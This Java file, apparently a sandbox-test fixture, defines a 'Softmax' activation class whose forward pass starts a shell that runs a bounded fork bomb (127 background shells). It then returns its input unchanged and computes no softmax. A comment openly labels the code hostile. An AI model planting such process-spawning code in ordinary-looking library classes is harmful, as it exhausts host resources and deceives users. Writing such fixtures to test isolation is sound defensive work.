package homework;

import backprop.api.Activation;
import backprop.api.Matrix;
import java.io.IOException;

/**
 * Hostile: a fork bomb, bounded so that it cannot harm a host without a sandbox either: a shell function that
 * calls itself twice in the background, seven levels deep (127 shells), each then sleeping 3 s.
 */
public final class Softmax implements Activation {
    public Softmax() {}

    @Override
    public Matrix forward(Matrix z) {
        try {
            new ProcessBuilder("/bin/sh", "-c",
                    "b() { if [ \"$1\" -gt 0 ]; then b $(($1 - 1)) & b $(($1 - 1)) & fi; sleep 3; }; b 6").start();
            Thread.sleep(10_000);
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException("could not start a process: " + e);
        }
        return z;
    }

    @Override
    public Matrix backward(Matrix z, Matrix h, Matrix dLdh) {
        return dLdh;
    }
}
